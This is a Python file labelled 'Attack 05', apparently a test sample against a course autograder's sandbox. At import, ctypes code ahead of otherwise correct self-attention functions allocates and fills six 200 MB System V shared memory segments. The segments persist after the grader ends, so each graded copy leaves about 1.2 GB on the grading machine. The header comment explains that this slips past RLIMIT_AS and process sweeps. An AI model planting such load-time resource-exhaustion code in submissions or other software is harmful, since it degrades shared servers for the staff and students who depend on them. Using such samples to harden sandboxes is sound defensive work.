# Attack 05 — a student's .py whose load leaves 6 x 200 MB of System V shared memory behind.
# RLIMIT_AS (--memory-mb, default 1024) bounds what one process maps at once, not what it leaves
# in the kernel: each segment is created, attached, filled and detached in turn, and segments are
# not removed when the process, the run or the grader ends (kernel.shm_rmid_forced = 0). No sweep
# of the sandbox user's processes removes them; they stay until reboot or `ipcrm`, on the TA's
# machine or a shared grading server, and each graded copy of this file leaves another 1.2 GB
# (keys chosen per run would not even collide). Every step is otherwise correct.
import ctypes

import numpy as np
import pandas as pd

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]
_libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
SEGMENT = 200 * 1024 * 1024
for key in range(0x7A7A0501, 0x7A7A0507):
    sid = _libc.shmget(key, SEGMENT, 0o1666)
    if sid >= 0:
        addr = _libc.shmat(sid, None, 0)
        if addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(addr, 0x5A, SEGMENT)  # the pages now exist (RAM, or swap)
            _libc.shmdt(addr)


def make_qkv(X, W_Q, W_K, W_V):
    return X @ W_Q, X @ W_K, X @ W_V


def scores(Q, K):
    return Q @ K.T


def softmax(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def mix(weights, V):
    return weights @ V


def self_attention(X, W_Q, W_K, W_V):
    Q, K, V = make_qkv(X, W_Q, W_K, W_V)
    weights = softmax(scores(Q, K) / np.sqrt(K.shape[1]))
    return mix(weights, V), weights


def most_attended(weights, words):
    return pd.DataFrame(weights, index=words, columns=words).idxmax(axis=1).to_dict()
